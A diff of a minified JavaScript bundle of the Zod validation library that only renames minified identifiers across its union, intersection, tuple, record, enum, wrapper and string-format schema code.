 map(o=>util.finalizeIssue(o,s,core.config())))}):e.issues.push({code:"invalid_union",input:e.value,inst:n,errors:[],inclusive:!1,
-matches:r}),e)}const pM=null;function mM(t,e){const n=t._zod;let s=n.bag.optionsMap;s||(s=Hb(n.def),n.bag.optionsMap=s);
-const r=s.get(e);if(r===null)throw new Error(`Ambiguous discriminator value "${String(e)}"`);return r}function Hb(t){const e=new Map;
+matches:r}),e)}const pM=null;function mM(t,e){const n=t._zod;let s=n.bag.optionsMap;s||(s=Mb(n.def),n.bag.optionsMap=s);
+const r=s.get(e);if(r===null)throw new Error(`Ambiguous discriminator value "${String(e)}"`);return r}function Mb(t){const e=new Map;
 for(const n of t.options){const s=n._zod.propValues?.[t.discriminator];if(!s||s.size===0)throw new Error(`Invalid discri\
 minated union option at index "${t.options.indexOf(n)}"`);for(const r of s)if(e.has(r)){if(r!==void 0)throw new Error(`D\
-uplicate discriminator value "${String(r)}"`);e.set(r,null)}else e.set(r,n)}return e}const gM=null,zb=N("$ZodIntersectio\
+uplicate discriminator value "${String(r)}"`);e.set(r,null)}else e.set(r,n)}return e}const gM=null,Gb=N("$ZodIntersectio\
 n",(t,e)=>{Ze.init(t,e),t._zod.parse=(n,s)=>{const r=n.value,i=e.left._zod.run({value:r,issues:[]},s),o=e.right._zod.run(
-{value:r,issues:[]},s);return i instanceof Promise||o instanceof Promise?Promise.all([i,o]).then(([c,u])=>pl(n,c,u)):pl(
+{value:r,issues:[]},s);return i instanceof Promise||o instanceof Promise?Promise.all([i,o]).then(([c,u])=>dl(n,c,u)):dl(
 n,i,o)}});function wo(t,e){if(t===e)return{valid:!0,data:t};if(t instanceof Date&&e instanceof Date&&+t==+e)return{valid:!0,
 data:t};if(rs(t)&&rs(e)){const n=Object.keys(e),s=Object.keys(t).filter(i=>n.indexOf(i)!==-1),r={...t,...e};Object.prototype.
 hasOwnProperty.call(r,"__proto__")&&delete r.__proto__;for(const i of s){if(i==="__proto__")continue;const o=wo(t[i],e[i]);
 if(!o.valid)return{valid:!1,mergeErrorPath:[i,...o.mergeErrorPath]};r[i]=o.data}return{valid:!0,data:r}}if(Array.isArray(
 t)&&Array.isArray(e)){if(t.length!==e.length)return{valid:!1,mergeErrorPath:[]};const n=[];for(let s=0;s<t.length;s++){const r=t[s],
 i=e[s],o=wo(r,i);if(!o.valid)return{valid:!1,mergeErrorPath:[s,...o.mergeErrorPath]};n.push(o.data)}return{valid:!0,data:n}}
-return{valid:!1,mergeErrorPath:[]}}function pl(t,e,n){const s=new Map;let r;const i=new Map,o=(u,l)=>{let d;if(u.code===
+return{valid:!1,mergeErrorPath:[]}}function dl(t,e,n){const s=new Map;let r;const i=new Map,o=(u,l)=>{let d;if(u.code===
 "unrecognized_keys"&&!u.path?.length)r??(r=u),d=u.keys;else if(u.code==="invalid_key"&&u.origin==="record"&&u.path?.length===
 1){const B=String(u.path[0]);i.has(B)||i.set(B,u),d=[B]}else return!1;for(const B of d)s.has(B)||s.set(B,{}),s.get(B)[l]=
 !0;return!0};for(const u of e.issues)o(u,"l")||t.issues.push(u);for(const u of n.issues)o(u,"r")||t.issues.push(u);const a=[
 ...s].filter(([,u])=>u.l&&u.r).map(([u])=>u);if(a.length){const u=r?a.filter(l=>r.keys.includes(l)):[];u.length&&t.issues.
 push({...r,keys:u});for(const l of a)!u.includes(l)&&i.has(l)&&t.issues.push(i.get(l))}const c=wo(e.value,n.value);if(!c.
 valid){if(Mt(t))return t;throw new Error(`Unmergable intersection. Error path: ${JSON.stringify(c.mergeErrorPath)}`)}return t.
-value=c.data,t}const Ub=N("$ZodTuple",(t,e)=>{Ze.init(t,e);const n=e.items,s=Rt.memoizer;s?.attach(t),t._zod.parse=(r,i)=>{
+value=c.data,t}const Hb=N("$ZodTuple",(t,e)=>{Ze.init(t,e);const n=e.items,s=Rt.memoizer;s?.attach(t),t._zod.parse=(r,i)=>{
 const o=r.value;if(!Array.isArray(o))return r.issues.push({input:o,inst:t,expected:"tuple",code:"invalid_type"}),r;r.value=
-s?s.alloc(t,r,[],i):[];const a=[],c=ml(n,"optin"),u=ml(n,"optout");if(!e.rest){if(o.length<c)return r.issues.push({code:"\
+s?s.alloc(t,r,[],i):[];const a=[],c=Bl(n,"optin"),u=Bl(n,"optout");if(!e.rest){if(o.length<c)return r.issues.push({code:"\
 too_small",minimum:c,inclusive:!0,input:o,inst:t,origin:"array"}),r;o.length>n.length&&r.issues.push({code:"too_big",maximum:n.
 length,inclusive:!0,input:o,inst:t,origin:"array"})}const l=new Array(n.length),d=e.rest?i?.abortEarly:void 0;let B=!1;for(let f=0;f<
 n.length;f++){const h=n[f]._zod.run({value:o[f],issues:[]},i);h instanceof Promise?a.push(h.then(m=>{l[f]=m})):(l[f]=h,d&&
 !B&&h.issues.length&&(B=Mt(h)))}if(e.rest&&!B){let f=n.length-1;const h=o.slice(n.length);let m=r.issues.length;for(const g of h){
 if(d&&r.issues.length!==m){if(Mt(r,m))break;m=r.issues.length}f++;const C=e.rest._zod.run({value:g,issues:[]},i);C instanceof
-Promise?a.push(C.then(b=>gl(b,r,f))):gl(C,r,f)}}return a.length?Promise.all(a).then(()=>Cl(l,r,n,o,u)):Cl(l,r,n,o,u)}});
-function ml(t,e){for(let n=t.length-1;n>=0;n--)if(!(e==="optin"?t[n]._zod.optin!==void 0:t[n]._zod.optout==="optional"))
-return n+1;return 0}function gl(t,e,n){t.issues.length&&e.issues.push(...sn(n,t.issues)),e.value[n]=t.value}function Cl(t,e,n,s,r){
+Promise?a.push(C.then(b=>fl(b,r,f))):fl(C,r,f)}}return a.length?Promise.all(a).then(()=>hl(l,r,n,o,u)):hl(l,r,n,o,u)}});
+function Bl(t,e){for(let n=t.length-1;n>=0;n--)if(!(e==="optin"?t[n]._zod.optin!==void 0:t[n]._zod.optout==="optional"))
+return n+1;return 0}function fl(t,e,n){t.issues.length&&e.issues.push(...rn(n,t.issues)),e.value[n]=t.value}function hl(t,e,n,s,r){
 for(let i=0;i<n.length;i++){const o=t[i],a=i<s.length;if(!a&&i>=r&&n[i]._zod.optin==="optional"){e.value.length=i;break}
-if(o.issues.length){if(!a&&i>=r){e.value.length=i;break}e.issues.push(...sn(i,o.issues))}e.value[i]=o.value}for(let i=e.
-value.length-1;i>=s.length&&(n[i]._zod.optout==="optional"&&e.value[i]===void 0);i--)e.value.length=i;return e}const Jb=N(
+if(o.issues.length){if(!a&&i>=r){e.value.length=i;break}e.issues.push(...rn(i,o.issues))}e.value[i]=o.value}for(let i=e.
+value.length-1;i>=s.length&&(n[i]._zod.optout==="optional"&&e.value[i]===void 0);i--)e.value.length=i;return e}const zb=N(
 "$ZodRecord",(t,e)=>{Ze.init(t,e);const n=Rt.memoizer;n?.attach(t),t._zod.parse=(s,r)=>{const i=s.value;if(!rs(i))return s.
 issues.push({expected:"record",code:"invalid_type",input:i,inst:t}),s;const o=[],a=e.keyType._zod.values;if(a&&!e.partial){
 s.value=n?n.alloc(t,s,{},r):{};const c=new Set;for(const l of a)if(typeof l=="string"||typeof l=="number"||typeof l=="sy\
 mbol"){if(c.add(typeof l=="number"?l.toString():l),l==="__proto__")continue;const d=e.keyType._zod.run({value:l,issues:[]},
 r);if(d instanceof Promise)throw new Error("Async schemas not supported in object keys currently");if(d.issues.length){s.
-issues.push({code:"invalid_key",origin:"record",issues:d.issues.map(h=>Cn(h,r,Kt())),input:l,path:[l],inst:t});continue}
+issues.push({code:"invalid_key",origin:"record",issues:d.issues.map(h=>Cn(h,r,qt())),input:l,path:[l],inst:t});continue}
 const B=d.value;if(B==="__proto__")continue;const f=e.valueType._zod.run({value:i[l],issues:[]},r);f instanceof Promise?
-o.push(f.then(h=>{h.issues.length&&s.issues.push(...sn(l,h.issues)),s.value[B]=h.value})):(f.issues.length&&s.issues.push(
-...sn(l,f.issues)),s.value[B]=f.value)}let u;for(const l in i)if(!c.has(l))if(e.mode==="loose"){if(l==="__proto__")continue;
+o.push(f.then(h=>{h.issues.length&&s.issues.push(...rn(l,h.issues)),s.value[B]=h.value})):(f.issues.length&&s.issues.push(
+...rn(l,f.issues)),s.value[B]=f.value)}let u;for(const l in i)if(!c.has(l))if(e.mode==="loose"){if(l==="__proto__")continue;
 s.value[l]=i[l]}else u=u??[],u.push(l);u&&u.length>0&&s.issues.push({code:"unrecognized_keys",input:i,inst:t,keys:u,continue:!0})}else{
 s.value=n?n.alloc(t,s,{},r):{};let c;for(const u of Reflect.ownKeys(i)){if(u==="__proto__"||!Object.prototype.propertyIsEnumerable.
 call(i,u))continue;let l=e.keyType._zod.run({value:u,issues:[]},r);if(l instanceof Promise)throw new Error("Async schema\
 s not supported in object keys currently");if(typeof u=="string"&&mo.test(u)&&l.issues.length){const h=e.keyType._zod.run(
 {value:Number(u),issues:[]},r);if(h instanceof Promise)throw new Error("Async schemas not supported in object keys curre\
 ntly");h.issues.length===0&&(l=h)}if(l.issues.length){e.mode==="loose"?s.value[u]=i[u]:a?(c=c??[],c.push(u)):s.issues.push(
-{code:"invalid_key",origin:"record",issues:l.issues.map(h=>Cn(h,r,Kt())),input:u,path:[u],inst:t});continue}const B=l.value;
+{code:"invalid_key",origin:"record",issues:l.issues.map(h=>Cn(h,r,qt())),input:u,path:[u],inst:t});continue}const B=l.value;
 if(B==="__proto__")continue;const f=e.valueType._zod.run({value:i[u],issues:[]},r);f instanceof Promise?o.push(f.then(h=>{
-h.issues.length&&s.issues.push(...sn(u,h.issues)),s.value[B]=h.value})):(f.issues.length&&s.issues.push(...sn(u,f.issues)),
+h.issues.length&&s.issues.push(...rn(u,h.issues)),s.value[B]=h.value})):(f.issues.length&&s.issues.push(...rn(u,f.issues)),
 s.value[B]=f.value)}c&&c.length>0&&s.issues.push({code:"unrecognized_keys",input:i,inst:t,keys:c,continue:!0})}return o.
 length?Promise.all(o).then(()=>s):s}}),CM=null;function yM(t,e,n,s,r,i,o){t.issues.length&&(util.propertyKeyTypes.has(typeof s)?
 n.issues.push(...util.prefixIssues(s,t.issues)):n.issues.push({code:"invalid_key",origin:"map",input:r,inst:i,issues:t.issues.
 map(a=>util.finalizeIssue(a,o,core.config()))})),e.issues.length&&(util.propertyKeyTypes.has(typeof s)?n.issues.push(...util.
 prefixIssues(s,e.issues)):n.issues.push({origin:"map",code:"invalid_element",input:r,inst:i,key:s,issues:e.issues.map(a=>util.
 finalizeIssue(a,o,core.config()))})),n.value.set(t.value,e.value)}const wM=null;function bM(t,e){t.issues.length&&e.issues.
-push(...t.issues),e.value.add(t.value)}const Zb=N("$ZodEnum",(t,e)=>{Ze.init(t,e);const n=no(e.entries),s=new Set(n);t._zod.
-values=s,He(t,"pattern",r=>{const i=no(r.def.entries).filter(o=>Oy.has(typeof o));return new RegExp(i.length?`^(${i.map(
+push(...t.issues),e.value.add(t.value)}const Ub=N("$ZodEnum",(t,e)=>{Ze.init(t,e);const n=no(e.entries),s=new Set(n);t._zod.
+values=s,He(t,"pattern",r=>{const i=no(r.def.entries).filter(o=>Dy.has(typeof o));return new RegExp(i.length?`^(${i.map(
 o=>is(o.toString())).join("|")})$`:"^[^\\s\\S]$")}),t._zod.parse=(r,i)=>{const o=r.value;return s.has(o)||r.issues.push(
-{code:"invalid_value",values:n,input:o,inst:t}),r}}),Kb=N("$ZodLiteral",(t,e)=>{Ze.init(t,e);const n=new Set(e.values);t.
+{code:"invalid_value",values:n,input:o,inst:t}),r}}),Jb=N("$ZodLiteral",(t,e)=>{Ze.init(t,e);const n=new Set(e.values);t.
 _zod.values=n,He(t,"pattern",s=>{const r=s.def.values;return new RegExp(r.length?`^(${r.map(i=>typeof i=="string"?is(i):
 i?is(i.toString()):String(i)).join("|")})$`:"^[^\\s\\S]$")}),t._zod.parse=(s,r)=>{const i=s.value;return n.has(i)||s.issues.
-push({code:"invalid_value",values:e.values,input:i,inst:t}),s}}),_M=null,Wb=N("$ZodTransform",(t,e)=>{Ze.init(t,e),t._zod.
-optin="optional",Rt.memoizer?.guard(t),t._zod.parse=(n,s)=>{if(s.direction==="backward")throw new Ku(t.constructor.name);
+push({code:"invalid_value",values:e.values,input:i,inst:t}),s}}),_M=null,Zb=N("$ZodTransform",(t,e)=>{Ze.init(t,e),t._zod.
+optin="optional",Rt.memoizer?.guard(t),t._zod.parse=(n,s)=>{if(s.direction==="backward")throw new zu(t.constructor.name);
 const r=e.transform(n.value,n);if(s.async)return(r instanceof Promise?r:Promise.resolve(r)).then(o=>(n.value=o,n));if(r instanceof
-Promise)throw new Rn;return n.value=r,n}});function yl(t,e){return t.value=e.issues.length?void 0:e.value,t}const wl=N("\
+Promise)throw new Rn;return n.value=r,n}});function pl(t,e){return t.value=e.issues.length?void 0:e.value,t}const ml=N("\
 $ZodOptional",(t,e)=>{Ze.init(t,e),He(t,"optin",n=>n.def.innerType._zod.optin==="defaulted"?"defaulted":"optional"),t._zod.
 optout="optional",He(t,"values",n=>{const s=n.def.innerType._zod.values;return s?new Set([...s,void 0]):void 0}),He(t,"p\
 attern",n=>{const s=n.def.innerType._zod.pattern;return s?new RegExp(`^(${io(s.source)})?$`):void 0}),t._zod.parse=(n,s)=>{
 if(n.value===void 0){if(e.innerType._zod.optin!=="defaulted")return n;const r=e.innerType._zod.run({value:n.value,issues:[]},
-s);return r instanceof Promise?r.then(i=>yl(n,i)):yl(n,r)}return e.innerType._zod.run(n,s)}}),qb=N("$ZodExactOptional",(t,e)=>{
-wl.init(t,e),He(t,"values",n=>n.def.innerType._zod.values),He(t,"pattern",n=>n.def.innerType._zod.pattern),t._zod.parse=
-(n,s)=>e.innerType._zod.run(n,s)}),Vb=N("$ZodNullable",(t,e)=>{Ze.init(t,e),He(t,"optin",n=>n.def.innerType._zod.optin),
+s);return r instanceof Promise?r.then(i=>pl(n,i)):pl(n,r)}return e.innerType._zod.run(n,s)}}),Kb=N("$ZodExactOptional",(t,e)=>{
+ml.init(t,e),He(t,"values",n=>n.def.innerType._zod.values),He(t,"pattern",n=>n.def.innerType._zod.pattern),t._zod.parse=
+(n,s)=>e.innerType._zod.run(n,s)}),qb=N("$ZodNullable",(t,e)=>{Ze.init(t,e),He(t,"optin",n=>n.def.innerType._zod.optin),
 He(t,"optout",n=>n.def.innerType._zod.optout),He(t,"pattern",n=>{const s=n.def.innerType._zod.pattern;return s?new RegExp(
 `^(${io(s.source)}|null)$`):void 0}),He(t,"values",n=>n.def.innerType._zod.values?new Set([...n.def.innerType._zod.values,
-null]):void 0),t._zod.parse=(n,s)=>n.value===null?n:e.innerType._zod.run(n,s)}),Yb=N("$ZodDefault",(t,e)=>{Ze.init(t,e),
+null]):void 0),t._zod.parse=(n,s)=>n.value===null?n:e.innerType._zod.run(n,s)}),Wb=N("$ZodDefault",(t,e)=>{Ze.init(t,e),
 t._zod.optin="defaulted",He(t,"values",n=>n.def.innerType._zod.values),t._zod.parse=(n,s)=>{if(s.direction==="backward")
 return e.innerType._zod.run(n,s);if(n.value===void 0)return n.value=e.defaultValue,n;const r=e.innerType._zod.run(n,s);return r instanceof
-Promise?r.then(i=>bl(i,e)):bl(r,e)}});function bl(t,e){return t.value===void 0&&(t.value=e.defaultValue),t}const Xb=N("$\
+Promise?r.then(i=>gl(i,e)):gl(r,e)}});function gl(t,e){return t.value===void 0&&(t.value=e.defaultValue),t}const Vb=N("$\
 ZodPrefault",(t,e)=>{Ze.init(t,e),t._zod.optin="defaulted",He(t,"values",n=>n.def.innerType._zod.values),t._zod.parse=(n,s)=>(s.
-direction==="backward"||n.value===void 0&&(n.value=e.defaultValue),e.innerType._zod.run(n,s))}),Qb=N("$ZodNonOptional",(t,e)=>{
+direction==="backward"||n.value===void 0&&(n.value=e.defaultValue),e.innerType._zod.run(n,s))}),Yb=N("$ZodNonOptional",(t,e)=>{
 Ze.init(t,e),He(t,"values",n=>{const s=n.def.innerType._zod.values;return s?new Set([...s].filter(r=>r!==void 0)):void 0}),
-t._zod.parse=(n,s)=>{const r=e.innerType._zod.run(n,s);return r instanceof Promise?r.then(i=>_l(i,t)):_l(r,t)}});function _l(t,e){
+t._zod.parse=(n,s)=>{const r=e.innerType._zod.run(n,s);return r instanceof Promise?r.then(i=>Cl(i,t)):Cl(r,t)}});function Cl(t,e){
 return!t.issues.length&&t.value===void 0&&t.issues.push({code:"invalid_type",expected:"nonoptional",input:t.value,inst:e}),
-t}const EM=null;function El(t,e,n,s){return e.issues.length?(t.value=n.catchValue({...e,value:t.value,error:{issues:e.issues.
-map(r=>Cn(r,s,Kt()))},input:t.value}),t):(t.value=e.value,e.memo&&(t.memo=!0),t)}const e_=N("$ZodCatch",(t,e)=>{Ze.init(
+t}const EM=null;function yl(t,e,n,s){return e.issues.length?(t.value=n.catchValue({...e,value:t.value,error:{issues:e.issues.
+map(r=>Cn(r,s,qt()))},input:t.value}),t):(t.value=e.value,e.memo&&(t.memo=!0),t)}const Xb=N("$ZodCatch",(t,e)=>{Ze.init(
 t,e),He(t,"optin",n=>n.def.innerType._zod.optin==="defaulted"?"defaulted":"optional"),He(t,"optout",n=>n.def.innerType._zod.
 optout),He(t,"values",n=>n.def.innerType._zod.values),t._zod.parse=(n,s)=>{if(s.direction==="backward")return e.innerType.
-_zod.run(n,s);const r=e.innerType._zod.run({value:n.value,issues:[]},s);return r instanceof Promise?r.then(i=>El(n,i,e,s)):
-El(n,r,e,s)}}),kM=null,t_=N("$ZodPipe",(t,e)=>{Ze.init(t,e),He(t,"values",n=>n.def.in._zod.values),He(t,"optin",n=>n.def.
+_zod.run(n,s);const r=e.innerType._zod.run({value:n.value,issues:[]},s);return r instanceof Promise?r.then(i=>yl(n,i,e,s)):
+yl(n,r,e,s)}}),kM=null,Qb=N("$ZodPipe",(t,e)=>{Ze.init(t,e),He(t,"values",n=>n.def.in._zod.values),He(t,"optin",n=>n.def.
 in._zod.optin),He(t,"optout",n=>n.def.out._zod.optout),He(t,"propValues",n=>n.def.in._zod.propValues),t._zod.parse=(n,s)=>{
 if(s.direction==="backward"){const i=e.out._zod.run(n,s);return i instanceof Promise?i.then(o=>_r(o,e.in,s)):_r(i,e.in,s)}
 const r=e.in._zod.run(n,s);return r instanceof Promise?r.then(i=>_r(i,e.out,s)):_r(r,e.out,s)}});function _r(t,e,n){return t.
@@ -2367,88 +2369,88 @@ issues.some(s=>s.code!=="unrecognized_keys")?(t.aborted=!0,t):e._zod.run({value:
 function DM(t,e,n){if(t.issues.length)return t.aborted=!0,t;if((n.direction||"forward")==="forward"){const r=e.transform(
 t.value,t);return r instanceof Promise?r.then(i=>Er(t,i,e.out,n)):Er(t,r,e.out,n)}else{const r=e.reverseTransform(t.value,
 t);return r instanceof Promise?r.then(i=>Er(t,i,e.in,n)):Er(t,r,e.in,n)}}function Er(t,e,n,s){return t.issues.length?(t.
-aborted=!0,t):n._zod.run({value:e,issues:t.issues},s)}const xM=null,n_=N("$ZodReadonly",(t,e)=>{Ze.init(t,e),He(t,"propV\
+aborted=!0,t):n._zod.run({value:e,issues:t.issues},s)}const xM=null,e_=N("$ZodReadonly",(t,e)=>{Ze.init(t,e),He(t,"propV\
 alues",n=>n.def.innerType._zod.propValues),He(t,"values",n=>n.def.innerType._zod.values),He(t,"optin",n=>n.def.innerType?.
 _zod?.optin),He(t,"optout",n=>n.def.innerType?._zod?.optout),t._zod.parse=(n,s)=>{if(s.direction==="backward")return e.innerType.
-_zod.run(n,s);const r=e.innerType._zod.run(n,s);return r instanceof Promise?r.then(kl):kl(r)}});function kl(t){return t.
-memo||(t.value=Object.freeze(t.value)),t}function s_(t){const e=t._zod.def;let n=e.pattern,s=!!e.format?.includes("int"),
+_zod.run(n,s);const r=e.innerType._zod.run(n,s);return r instanceof Promise?r.then(wl):wl(r)}});function wl(t){return t.
+memo||(t.value=Object.freeze(t.value)),t}function t_(t){const e=t._zod.def;let n=e.pattern,s=!!e.format?.includes("int"),
 r,i;for(const a of e.checks??[]){const c=a._zod.def;c.pattern&&(n=c.pattern),s||(s=!!c.format?.includes("int"));const u=c.
 minimum??c.length,l=c.maximum??c.length;u!==void 0&&(r===void 0||u>r)&&(r=u),l!==void 0&&(i===void 0||l<i)&&(i=l)}if(n)return n.
 source;if(r!==void 0&&i!==void 0&&r>i)return"(?!)";if(r!==void 0||i!==void 0)return regexes.string({minimum:r,maximum:i}).
-source;const o=t._zod.pattern;return(s&&o===regexes.number?regexes.integer:o)?.source}function vl(t){const e=t._zod.def,
-n=t._zod.pattern?.source,s=e.innerType??t._zod.innerType;if(s){const r=s._zod.pattern?.source,i=vl(s);return n&&r&&i&&i!==
-r?n.replace(util.cleanRegex(r),()=>util.cleanRegex(i)):n}if(e.options){const r=e.options.map(vl);if(r.every(Boolean))return`\
-^(${r.map(i=>util.cleanRegex(i)).join("|")})$`}return s_(t)}const OM=null,AM=null,SM=null,TM=null,r_=N("$ZodCustom",(t,e)=>{
+source;const o=t._zod.pattern;return(s&&o===regexes.number?regexes.integer:o)?.source}function bl(t){const e=t._zod.def,
+n=t._zod.pattern?.source,s=e.innerType??t._zod.innerType;if(s){const r=s._zod.pattern?.source,i=bl(s);return n&&r&&i&&i!==
+r?n.replace(util.cleanRegex(r),()=>util.cleanRegex(i)):n}if(e.options){const r=e.options.map(bl);if(r.every(Boolean))return`\
+^(${r.map(i=>util.cleanRegex(i)).join("|")})$`}return t_(t)}const OM=null,AM=null,SM=null,TM=null,n_=N("$ZodCustom",(t,e)=>{
 ht.init(t,e),Ze.init(t,e),t._zod.parse=(n,s)=>n,t._zod.check=n=>{const s=n.value,r=e.fn(s);if(r instanceof Promise)return r.
-then(i=>Dl(i,n,s,t));Dl(r,n,s,t)}});function Dl(t,e,n,s){if(!t){const r={code:"custom",input:n,inst:s,path:[...s._zod.def.
-path??[]],continue:!s._zod.def.abort};s._zod.def.params&&(r.params=s._zod.def.params),e.issues.push(As(r))}}var xl;const IM=null,
-$M=null;class i_{constructor(){this._map=new WeakMap,this._idmap=new Map}add(e,...n){const s=n[0];return this._map.set(e,
+then(i=>_l(i,n,s,t));_l(r,n,s,t)}});function _l(t,e,n,s){if(!t){const r={code:"custom",input:n,inst:s,path:[...s._zod.def.
+path??[]],continue:!s._zod.def.abort};s._zod.def.params&&(r.params=s._zod.def.params),e.issues.push(As(r))}}var El;const IM=null,
+$M=null;class s_{constructor(){this._map=new WeakMap,this._idmap=new Map}add(e,...n){const s=n[0];return this._map.set(e,
 s),s&&typeof s=="object"&&"id"in s&&this._idmap.set(s.id,e),this}clear(){return this._map=new WeakMap,this._idmap=new Map,
 this}remove(e){const n=this._map.get(e);return n&&typeof n=="object"&&"id"in n&&this._idmap.delete(n.id),this._map.delete(
 e),this}get(e){const n=e._zod.parent;if(n){const s={...this.get(n)??{}};delete s.id;const r={...s,...this._map.get(e)};return Object.
-keys(r).length?r:void 0}return this._map.get(e)}has(e){return this._map.has(e)}}function o_(){return new i_}(xl=globalThis).
-__zod_globalRegistry??(xl.__zod_globalRegistry=o_());const rn=globalThis.__zod_globalRegistry;function kr(t){return t.checks&&
-(t.checks=[...t.checks]),t}function a_(t,e){return new t(kr({type:"string",...Be(e)}))}function RM(t,e){return new t(kr(
-{type:"string",coerce:!0,...util.normalizeParams(e)}))}function c_(t,e){return new t({type:"string",format:"email",check:"\
-string_format",abort:!1,...Be(e)})}function u_(t,e){return new t({type:"string",format:"guid",check:"string_format",abort:!1,
-...Be(e)})}function l_(t,e){return new t({type:"string",format:"uuid",check:"string_format",abort:!1,...Be(e)})}function d_(t,e){
-return new t({type:"string",format:"uuid",check:"string_format",abort:!1,version:"v4",...Be(e)})}function B_(t,e){return new t(
-{type:"string",format:"uuid",check:"string_format",abort:!1,version:"v6",...Be(e)})}function f_(t,e){return new t({type:"\
-string",format:"uuid",check:"string_format",abort:!1,version:"v7",...Be(e)})}function h_(t,e){return new t({type:"string",
-format:"url",check:"string_format",abort:!1,...Be(e)})}function p_(t,e){return new t({type:"string",format:"emoji",check:"\
-string_format",abort:!1,...Be(e)})}function m_(t,e){return new t({type:"string",format:"nanoid",check:"string_format",abort:!1,
-...Be(e)})}function g_(t,e){return new t({type:"string",format:"cuid",check:"string_format",abort:!1,...Be(e)})}function C_(t,e){
-return new t({type:"string",format:"cuid2",check:"string_format",abort:!1,...Be(e)})}function y_(t,e){return new t({type:"\
-string",format:"ulid",check:"string_format",abort:!1,...Be(e)})}function w_(t,e){return new t({type:"string",format:"xid",
-check:"string_format",abort:!1,...Be(e)})}function b_(t,e){return new t({type:"string",format:"ksuid",check:"string_form\
-at",abort:!1,...Be(e)})}function __(t,e){return new t({type:"string",format:"ipv4",check:"string_format",abort:!1,...Be(
-e)})}function E_(t,e){return new t({type:"string",format:"ipv6",check:"string_format",abort:!1,...Be(e)})}function NM(t,e){
-return new t({type:"string",format:"mac",check:"string_format",abort:!1,...util.normalizeParams(e)})}function k_(t,e){return new t(
-{type:"string",format:"cidrv4",check:"string_format",abort:!1,...Be(e)})}function v_(t,e){return new t({type:"string",format:"\
-cidrv6",check:"string_format",abort:!1,...Be(e)})}function D_(t,e){return new t({type:"string",format:"base64",check:"st\
-ring_format",abort:!1,...Be(e)})}function x_(t,e){return new t({type:"string",format:"base64url",check:"string_format",abort:!1,
-...Be(e)})}function O_(t,e){return new t({type:"string",format:"e164",check:"string_format",abort:!1,...Be(e)})}function FM(t,e){
+keys(r).length?r:void 0}return this._map.get(e)}has(e){return this._map.has(e)}}function r_(){return new s_}(El=globalThis).
+__zod_globalRegistry??(El.__zod_globalRegistry=r_());const on=globalThis.__zod_globalRegistry;function kr(t){return t.checks&&
+(t.checks=[...t.checks]),t}function i_(t,e){return new t(kr({type:"string",...Be(e)}))}function RM(t,e){return new t(kr(
+{type:"string",coerce:!0,...util.normalizeParams(e)}))}function o_(t,e){return new t({type:"string",format:"email",check:"\
+string_format",abort:!1,...Be(e)})}function a_(t,e){return new t({type:"string",format:"guid",check:"string_format",abort:!1,
+...Be(e)})}function c_(t,e){return new t({type:"string",format:"uuid",check:"string_format",abort:!1,...Be(e)})}function u_(t,e){
+return new t({type:"string",format:"uuid",check:"string_format",abort:!1,version:"v4",...Be(e)})}function l_(t,e){return new t(
+{type:"string",format:"uuid",check:"string_format",abort:!1,version:"v6",...Be(e)})}function d_(t,e){return new t({type:"\
+string",format:"uuid",check:"string_format",abort:!1,version:"v7",...Be(e)})}function B_(t,e){return new t({type:"string",
+format:"url",check:"string_format",abort:!1,...Be(e)})}function f_(t,e){return new t({type:"string",format:"emoji",check:"\
+string_format",abort:!1,...Be(e)})}function h_(t,e){return new t({type:"string",format:"nanoid",check:"string_format",abort:!1,
+...Be(e)})}function p_(t,e){return new t({type:"string",format:"cuid",check:"string_format",abort:!1,...Be(e)})}function m_(t,e){
+return new t({type:"string",format:"cuid2",check:"string_format",abort:!1,...Be(e)})}function g_(t,e){return new t({type:"\
+string",format:"ulid",check:"string_format",abort:!1,...Be(e)})}function C_(t,e){return new t({type:"string",format:"xid",
+check:"string_format",abort:!1,...Be(e)})}function y_(t,e){return new t({type:"string",format:"ksuid",check:"string_form\
+at",abort:!1,...Be(e)})}function w_(t,e){return new t({type:"string",format:"ipv4",check:"string_format",abort:!1,...Be(
+e)})}function b_(t,e){return new t({type:"string",format:"ipv6",check:"string_format",abort:!1,...Be(e)})}function NM(t,e){
+return new t({type:"string",format:"mac",check:"string_format",abort:!1,...util.normalizeParams(e)})}function __(t,e){return new t(
+{type:"string",format:"cidrv4",check:"string_format",abort:!1,...Be(e)})}function E_(t,e){return new t({type:"string",format:"\
+cidrv6",check:"string_format",abort:!1,...Be(e)})}function k_(t,e){return new t({type:"string",format:"base64",check:"st\
+ring_format",abort:!1,...Be(e)})}function v_(t,e){return new t({type:"string",format:"base64url",check:"string_format",abort:!1,
+...Be(e)})}function D_(t,e){return new t({type:"string",format:"e164",check:"string_format",abort:!1,...Be(e)})}function FM(t,e){
 return new t({type:"string",format:"credit_card",check:"string_format",abort:!1,...util.normalizeParams(e)})}function LM(t,e){
-return new t({type:"string",format:"iban",check:"string_format",abort:!1,...util.normalizeParams(e)})}function A_(t,e){return new t(
+return new t({type:"string",format:"iban",check:"string_format",abort:!1,...util.normalizeParams(e)})}function x_(t,e){return new t(
 {type:"string",format:"jwt",check:"string_format",abort:!1,...Be(e)})}const PM={Any:null,Minute:-1,Second:0,Millisecond:3,
-Microsecond:6};function Ol(t,e){return new t({type:"string",format:"datetime",check:"string_format",offset:!1,local:!1,precision:null,
-...Be(e)})}function S_(t,e){return new t({type:"string",format:"date",check:"string_format",...Be(e)})}function T_(t,e){
-return new t({type:"string",format:"time",check:"string_format",precision:null,...Be(e)})}function I_(t,e){return new t(
-{type:"string",format:"duration",check:"string_format",...Be(e)})}function $_(t,e){return new t(kr({type:"number",checks:[],
-...Be(e)}))}function jM(t,e){return new t(kr({type:"number",coerce:!0,checks:[],...util.normalizeParams(e)}))}function R_(t,e){
+Microsecond:6};function kl(t,e){return new t({type:"string",format:"datetime",check:"string_format",offset:!1,local:!1,precision:null,
+...Be(e)})}function O_(t,e){return new t({type:"string",format:"date",check:"string_format",...Be(e)})}function A_(t,e){
+return new t({type:"string",format:"time",check:"string_format",precision:null,...Be(e)})}function S_(t,e){return new t(
+{type:"string",format:"duration",check:"string_format",...Be(e)})}function T_(t,e){return new t(kr({type:"number",checks:[],
+...Be(e)}))}function jM(t,e){return new t(kr({type:"number",coerce:!0,checks:[],...util.normalizeParams(e)}))}function I_(t,e){
 return new t({type:"number",check:"number_format",abort:!1,format:"safeint",...Be(e)})}function MM(t,e){return new t({type:"\
 number",check:"number_format",abort:!1,format:"float32",...util.normalizeParams(e)})}function GM(t,e){return new t({type:"\
 number",check:"number_format",abort:!1,format:"float64",...util.normalizeParams(e)})}function HM(t,e){return new t({type:"\
